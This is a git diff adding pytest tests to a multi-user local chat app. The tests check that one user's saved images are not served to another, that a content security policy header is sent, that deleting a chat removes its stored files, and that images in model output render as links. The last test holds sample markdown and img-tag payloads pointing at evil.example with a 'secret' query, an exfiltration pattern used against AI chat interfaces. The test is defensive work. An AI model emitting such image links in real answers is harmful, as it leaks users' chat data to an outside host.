@@ -6,15 +6,20 @@ leaves nothing of it behind."""
 
 from __future__ import annotations
 
+import contextlib
+from pathlib import Path
+
+import httpx
 import pytest
 
 from chat.service import Answered, ChatService
 from engine import Message, SamplingParams, TextPart, create_engine
 from engine.config import Settings
+from engine.kv_state import session_files
 from engine.registry import user_model
 from sessions import Store
 from sessions.library import DocumentLibrary
-from tests.conftest import png_bytes
+from tests.conftest import png_bytes, start_app, stop_app
 
 GREEDY = SamplingParams(temperature=0, max_tokens=8, seed=3)
 ANN, BOB = "ann", "bob"
@@ -96,3 +101,119 @@ def _image(color: str):
     from engine import ImagePart
 
     return ImagePart(png_bytes(56, 56, color), "image/png", f"{color}.png", 56, 56)
+
+
+# -- the page, with two logins -----------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def two_logins(tmp_path_factory, tiny_llama4):
+    """Ann and Bob on the tiny vision model (answers are gibberish; who sees what is the point)."""
+    data_dir = tmp_path_factory.mktemp("isolation-data")
+    model, mmproj = tiny_llama4
+    proc, url = start_app(
+        "--data-dir", str(data_dir), "--model-path", str(model), "--mmproj", str(mmproj),
+        "--auth", ":".join(ANN_LOGIN), "--auth", ":".join(BOB_LOGIN),
+    )  # fmt: skip
+    yield url, data_dir
+    stop_app(proc)
+
+
+ANN_LOGIN, BOB_LOGIN = (ANN, "ann-pw"), (BOB, "bob-pw")
+TINY = dict(model_name="tiny-llama4", page_range="", system="", max_tokens=16, n_ctx=2048, seed=0)
+
+
+def page_chat(client, text: str, files=()) -> list[dict]:
+    from gradio_client import handle_file
+
+    _, _, notice = client.predict(
+        {"text": text, "files": [handle_file(f) for f in files]}, password="", api_name="/send"
+    )
+    assert notice == ""
+    chat, notice = client.predict(**TINY, api_name="/respond")
+    assert notice == ""
+    return chat
+
+
+@contextlib.contextmanager
+def logged_in(url: str, login: tuple[str, str]):
+    with httpx.Client(base_url=url, timeout=10) as web:
+        assert web.post("login", data={"username": login[0], "password": login[1]}).status_code == 200
+        yield web
+
+
+def test_a_saved_image_is_served_only_to_the_user_whose_chat_holds_it(two_logins, write_png):
+    from gradio_client import Client
+
+    url, data_dir = two_logins
+    ann = Client(url, auth=ANN_LOGIN, verbose=False)
+    page_chat(ann, "look <image>", [write_png("ann's garden.png", color="orange")])
+    with Store(data_dir) as store:
+        session = next(s for s in store.list_sessions(owner=ANN) if s.title.startswith("look"))
+        (attachment,) = store.branch(session.id)[0].attachments
+        blob = store.blob_path(attachment.sha256)
+    # The page shows it through the route, not as a copy in Gradio's cache.
+    page = Client(url, auth=ANN_LOGIN, verbose=False, download_files=False)
+    page.predict("", api_name="/list_chats")
+    chatbot, *_ = page.predict(session.id, api_name="/open_chat")
+    shown = chatbot[0]["content"][1]["file"]
+    assert shown["url"] == f"{url}blobs/{attachment.sha256}" == shown["path"]
+    with logged_in(url, ANN_LOGIN) as as_ann, logged_in(url, BOB_LOGIN) as as_bob:
+        mine = as_ann.get(f"blobs/{attachment.sha256}")
+        assert mine.status_code == 200 and mine.content == blob.read_bytes()
+        assert mine.headers["content-type"] == "image/png"
+        assert as_bob.get(f"blobs/{attachment.sha256}").status_code == 404  # as if it did not exist
+        assert as_bob.get(f"blobs/{'0' * 64}").status_code == 404
+        assert as_ann.get(f"gradio_api/file={blob.resolve()}").status_code == 403  # not a served folder
+    assert httpx.get(f"{url}blobs/{attachment.sha256}", timeout=10).status_code == 404  # no login
+
+
+def test_the_page_is_served_with_a_content_security_policy(two_logins):
+    url, _ = two_logins
+    with logged_in(url, ANN_LOGIN) as as_ann:
+        for path in ("", "config", f"blobs/{'0' * 64}"):
+            policy = as_ann.get(path).headers.get("content-security-policy", "")
+            assert "img-src 'self' data: blob:" in policy, path
+
+
+def test_deleting_a_chat_removes_its_kv_state_blobs_and_gradio_copies(two_logins, write_png):
+    from gradio import processing_utils
+    from gradio.utils import get_upload_folder
+    from gradio_client import Client
+
+    url, data_dir = two_logins
+    # The Python client fetches files by path through Gradio, not by their URL: it
+    # gets the chat as the page does, without downloading.
+    ann = Client(url, auth=ANN_LOGIN, verbose=False, download_files=False)
+    photo = write_png("to forget.png", color="teal")
+    page_chat(ann, "forget me <image>", [photo])
+    with Store(data_dir) as store:
+        session = next(s for s in store.list_sessions(owner=ANN) if s.title.startswith("forget"))
+        (attachment,) = store.branch(session.id)[0].attachments
+        blob = store.blob_path(attachment.sha256)
+    copy = Path(get_upload_folder()) / processing_utils.hash_file(blob)
+    assert copy.is_dir()  # the upload Gradio kept
+    kv = session_files(data_dir / "kv", session.id)
+    assert [p.suffix for p in kv] == [".kvstate"]  # this chat's KV state, saved after its turn
+    ann.predict("", api_name="/list_chats")
+    ann.predict(session.id, api_name="/open_chat")
+    ann.predict(api_name="/delete_chat")
+    with Store(data_dir) as store:
+        assert all(s.id != session.id for s in store.list_sessions(owner=ANN))
+    assert not blob.exists() and not copy.exists()
+    assert not [p for p in kv if p.exists()]
+
+
+def test_images_in_model_output_become_links_never_img_tags():
+    from app.render import to_chatbot
+    from chat.turns import assistant_turn
+
+    answer = (
+        "Here: ![chart](https://evil.example/leak.png?chat=secret) and ![ref][1], "
+        '<img src="https://evil.example/x.png"> <IMG/SRC=//e.example/y> vec![1, 2]\n\n[1]: https://e.example/z'
+    )
+    (shown,) = to_chatbot([assistant_turn(answer, "complete")])
+    text = shown["content"]
+    assert "![" not in text.replace("vec![1, 2]", "") and "<img" not in text.lower()
+    assert "[🖼 chart](https://evil.example/leak.png?chat=secret)" in text  # still there, as a link
+    assert "[🖼 ref][1]" in text and "&lt;img src=" in text and "vec![1, 2]" in text
